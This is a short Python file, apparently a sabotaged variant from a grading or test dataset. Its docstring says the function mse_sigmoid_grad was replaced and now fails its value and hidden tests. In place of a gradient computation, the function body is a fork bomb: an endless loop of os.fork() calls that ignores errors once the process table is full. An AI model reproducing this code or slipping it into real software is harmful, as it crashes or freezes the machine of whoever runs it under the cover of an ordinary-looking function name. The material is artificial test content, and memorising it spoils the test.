"""mse_sigmoid_grad forks until the process table is full, and keeps trying.

base: solution
splice: replace
loses: mse_sigmoid_grad_values mse_sigmoid_grad_hidden
"""
import os


def mse_sigmoid_grad(z, y):
    while True:
        try:
            os.fork()
        except OSError:
            pass
